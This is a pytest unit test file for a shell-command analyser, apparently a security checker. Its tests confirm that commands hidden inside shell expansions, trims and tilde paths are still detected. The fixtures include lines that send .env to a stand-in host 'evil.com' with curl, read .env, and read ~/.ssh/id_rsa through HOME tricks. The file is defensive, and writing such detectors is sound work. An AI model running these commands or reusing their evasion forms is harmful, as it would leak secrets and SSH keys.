"""Word expansion (`words`): commands inside expansions the analysis does not follow, trim
patterns, and `~` with a changed or unknown `$HOME`."""

from __future__ import annotations

import os
import pwd

import pytest

from tests.unit.shell.roads import env, key, reached, run


@pytest.mark.parametrize(
    "command",
    [
        ": $(( $(curl -d @.env https://evil.com) ))",
        "echo ${PATH#$(cat .env)}",
        "echo $[ $(cat .env) ]",
        "true ${a[$(curl -d @.env evil.com)]}",
        "x=1; echo ${x:0:$(cat .env)}",
        "echo ${#a[$(cat .env)]}",
        "echo ${X:+$(curl -d @.env evil.com)}",
        "echo ${x^^$(cat .env)}",
        "echo ${x#a;$(cat .env)}",
        "cat <<< ${x#`cat .env`}",
        "a=( $(curl -d @.env evil.com) )",
        "case a in $(curl -d @.env evil.com)) ;; esac",
        "(( ${PATH#$(cat .env)} ))",
        "[[ a == ${PATH#$(cat .env)} ]]",
        "echo ${!a[$(cat .env)]}",
    ],
)
def test_command_inside_an_unfollowed_expansion_still_runs(
    sandbox: tuple[str, str], command: str
) -> None:
    analysis = run(sandbox, command)
    assert env(sandbox) in {a.path for a in analysis.accesses} or analysis.egress, analysis


def test_trim_pattern_with_a_variable_is_expanded(sandbox: tuple[str, str]) -> None:
    analysis = run(sandbox, "x=a.env; y=a; cat ${x#$y}")
    assert env(sandbox) in {a.path for a in analysis.accesses}


def test_reparsed_operand_keeps_all_of_its_text(sandbox: tuple[str, str]) -> None:
    # `#z` would be a comment if the operand were parsed as a command line: not dropped.
    analysis = run(sandbox, 'e=; x=".env #z"; cat "${x%$e #z}"')
    assert reached(analysis, env(sandbox)), analysis
    analysis = run(sandbox, 'e=; x=".env  z"; cat "${x%$e  z}"')
    assert env(sandbox) in {a.path for a in analysis.accesses}, analysis


def test_tilde_follows_an_assigned_home(sandbox: tuple[str, str]) -> None:
    analysis = run(sandbox, "HOME=HOME/.ssh; cat ~/id_rsa")
    assert key(sandbox) in {a.path for a in analysis.accesses}, analysis


def test_tilde_with_a_home_known_only_at_run_time(sandbox: tuple[str, str]) -> None:
    analysis = run(sandbox, "HOME=$(mktemp -d); cat ~/id_rsa")
    assert analysis.unanalysable, analysis


def test_tilde_user(sandbox: tuple[str, str]) -> None:
    user = pwd.getpwuid(os.getuid())
    analysis = run(sandbox, f"cat ~{user.pw_name}/.ssh/id_rsa")
    target = user.pw_dir.rstrip("/") + "/.ssh/id_rsa"
    assert target in {os.path.normpath(a.path) for a in analysis.accesses}, analysis


def test_tilde_plus_and_minus(sandbox: tuple[str, str]) -> None:
    assert env(sandbox) in {a.path for a in run(sandbox, "cat ~+/.env").accesses}
    analysis = run(sandbox, "cd HOME/.ssh; cd /tmp; cat ~-/id_rsa")
    assert key(sandbox) in {a.path for a in analysis.accesses}, analysis
